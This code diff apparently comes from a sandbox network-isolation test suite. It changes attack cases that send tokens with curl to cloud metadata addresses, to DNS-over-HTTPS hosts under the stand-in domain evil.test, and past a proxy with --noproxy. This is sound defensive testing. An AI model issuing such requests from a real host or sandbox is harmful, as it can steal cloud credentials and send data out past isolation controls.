@@ -52,12 +52,11 @@ export const directCases: readonly AttackCase[] = [
     title: "The cloud's metadata service, by its addresses",
     protection: "no interface; addresses of no rule are denied",
     runtimes: ["docker", "embedded"],
-    program: ({ token }) =>
-      curl(
+    program: ({ token, target }) =>
+      curl(target, 
         [addresses.metadata, "[fd00:ec2::254]", "100.100.100.200", "168.63.129.16"].map(
           (host) => `http://${host}/latest/meta-data/${token}`,
         ),
-        "-g",
       ),
   }),
   networkAttack({
@@ -66,7 +65,7 @@ export const directCases: readonly AttackCase[] = [
     title: "The cloud's metadata service, by its name",
     protection: "only names of a rule are resolved",
     runtimes: ["docker", "embedded"],
-    program: ({ token }) => curl([`http://metadata.google.internal/computeMetadata/${token}`]),
+    program: ({ token, target }) => curl(target, [`http://metadata.google.internal/computeMetadata/${token}`]),
   }),
   networkAttack({
     name: "gateway",
@@ -133,8 +132,8 @@ print(result)`),
     title: "DNS over HTTPS and over TLS with an unlisted server",
     protection: "only hosts of a rule are reached",
     runtimes: ["docker", "embedded"],
-    program: ({ token }) =>
-      curl([`https://dns.evil.test:853/${token}`, `https://dns.evil.test/dns-query?name=${token}`]),
+    program: ({ token, target }) =>
+      curl(target, [`https://dns.evil.test:853/${token}`, `https://dns.evil.test/dns-query?name=${token}`]),
   }),
   networkAttack({
     name: "icmp",
@@ -152,8 +151,8 @@ print(result)`),
     attack: 33,
     title: "Programs that are told of no proxy, or pass it by",
     protection: "the gateway is the only way, asked or not",
-    program: ({ token }) =>
-      curl([`http://evil.test/${token}`, `https://evil.test/${token}`], "--noproxy '*'"),
+    program: ({ token, target }) =>
+      curl(target, [`http://evil.test/${token}`, `https://evil.test/${token}`], "--noproxy '*'"),
   }),
   networkAttack({
     name: "other-protocols",
